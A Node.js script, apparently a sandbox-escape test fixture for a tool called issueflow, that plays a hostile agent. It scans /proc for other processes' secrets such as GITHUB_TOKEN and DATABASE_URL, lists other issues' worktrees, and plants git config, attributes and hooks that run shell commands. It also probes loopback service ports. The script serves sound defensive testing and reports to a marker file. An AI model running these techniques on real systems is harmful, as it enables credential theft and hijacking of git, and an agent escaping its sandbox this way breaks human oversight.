#!/usr/bin/env node
// A hostile agent or repo command: tries every way out of issueflow's sandbox it knows and reports
// each one that worked, one line each (nothing at all when every route is shut). It also plants git
// config, attributes and hooks in its worktree that would write `--marker` if issueflow's git ran them.
//   node attack.js --out <file|-> --workdir <worktree> --data-dir <dir> --ports 5432,7233 --marker <path>
'use strict';
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const { execFileSync } = require('node:child_process');

const args = {};
for (let i = 2; i < process.argv.length; i += 2) args[process.argv[i].replace(/^--/, '')] = process.argv[i + 1];
const workdir = path.resolve(args.workdir ?? process.cwd());
const dataDir = path.resolve(args['data-dir']);
const marker = args.marker;
const reached = [];
const SECRETS = ['GITHUB_TOKEN=', 'GITHUB_WEBHOOK_SECRET=', 'DATABASE_URL=', 'ISSUEFLOW_API_TOKEN=', 'GITHUB_APP_PRIVATE_KEY='];
const tryRead = (p) => {
  try {
    return fs.readFileSync(p, 'latin1');
  } catch {
    return undefined;
  }
};
const tryList = (p) => {
  try {
    return fs.readdirSync(p);
  } catch {
    return [];
  }
};

// 1. Other processes: their environment and command lines.
for (const pid of tryList('/proc').filter((n) => /^\d+$/.test(n))) {
  const environ = tryRead(`/proc/${pid}/environ`) ?? '';
  for (const s of SECRETS) if (environ.includes(s)) reached.push(`proc ${pid} environ has ${s.slice(0, -1)}`);
  const cmdline = (tryRead(`/proc/${pid}/cmdline`) ?? '').replace(/\0/g, ' ');
  if (/cli\/main\.js|postgres|temporal|jest/.test(cmdline)) reached.push(`proc ${pid} is ${cmdline.slice(0, 80)}`);
}

// 2. The data dir: mirrors, the database, Temporal's file, other issues' worktrees and homes.
const mine = path.relative(dataDir, workdir).split(path.sep); // worktrees/<owner>/<repo>/issue-N
for (const entry of tryList(dataDir)) if (!['worktrees', 'homes'].includes(entry)) reached.push(`data dir has ${entry}`);
for (const kind of ['worktrees', 'homes']) {
  for (const owner of tryList(path.join(dataDir, kind))) {
    for (const repo of tryList(path.join(dataDir, kind, owner))) {
      for (const issue of tryList(path.join(dataDir, kind, owner, repo))) {
        if (!(owner === mine[1] && repo === mine[2] && issue === mine[3])) reached.push(`${kind} of another issue: ${owner}/${repo}/${issue}`);
      }
    }
  }
}
for (const p of [path.join(dataDir, 'repos'), path.join(dataDir, 'postgres'), path.join(dataDir, 'temporal.db')]) if (fs.existsSync(p)) reached.push(`exists: ${p}`);

// 3. Git that would steer issueflow's own calls, if it read this worktree's config or attributes.
const run = `sh -c 'env > ${marker}; cat'`;
const steering = [
  ['url.file:///nowhere/evil.git.insteadOf', 'file://'],
  ['url.file:///nowhere/evil.git.pushInsteadOf', 'file://'],
  ['http.proxy', 'http://127.0.0.1:9'],
  ['http.sslVerify', 'false'],
  ['credential.helper', `!${run}`],
  ['core.sshCommand', run],
  ['core.fsmonitor', run],
  ['core.hooksPath', path.join(workdir, '.hooks')],
  ['include.path', path.join(workdir, '.evil.config')],
  ['filter.evil.clean', run],
  ['filter.evil.smudge', run],
  ['filter.evil.required', 'true'],
];
try {
  for (const [key, value] of steering) execFileSync('git', ['config', key, value], { cwd: workdir, stdio: 'ignore' });
} catch (err) {
  reached.push(`(could not plant git config: ${String(err.message).split('\n')[0]})`);
}
fs.writeFileSync(path.join(workdir, '.evil.config'), `[core]\n\tfsmonitor = ${run}\n`);
fs.writeFileSync(path.join(workdir, '.gitattributes'), '* filter=evil\n');
fs.mkdirSync(path.join(workdir, '.hooks'), { recursive: true });
for (const name of ['pre-commit', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout']) {
  for (const dir of [path.join(workdir, '.hooks'), path.join(workdir, '.git', 'hooks')]) {
    try {
      fs.writeFileSync(path.join(dir, name), `#!/bin/sh\nenv > ${marker}\n`, { mode: 0o755 });
    } catch {
      // no .git/hooks: nothing to plant there
    }
  }
}

// 4. issueflow's services on loopback (PostgreSQL, Temporal, the API), then write the report.
const ports = (args.ports ?? '').split(',').filter(Boolean).map(Number);
const probe = (port) =>
  new Promise((resolve) => {
    const socket = net.connect({ host: '127.0.0.1', port, timeout: 1500 });
    socket.once('connect', () => (reached.push(`port ${port} on loopback is open`), socket.destroy(), resolve()));
    socket.once('error', () => resolve());
    socket.once('timeout', () => (socket.destroy(), resolve()));
  });
Promise.all(ports.map(probe)).then(() => {
  const report = reached.map((r) => `${r}\n`).join('');
  if (args.out === '-') process.stdout.write(`ATTACK-REPORT-BEGIN\n${report}ATTACK-REPORT-END (${reached.length} reached)\n`);
  else fs.writeFileSync(path.resolve(workdir, args.out), report);
});
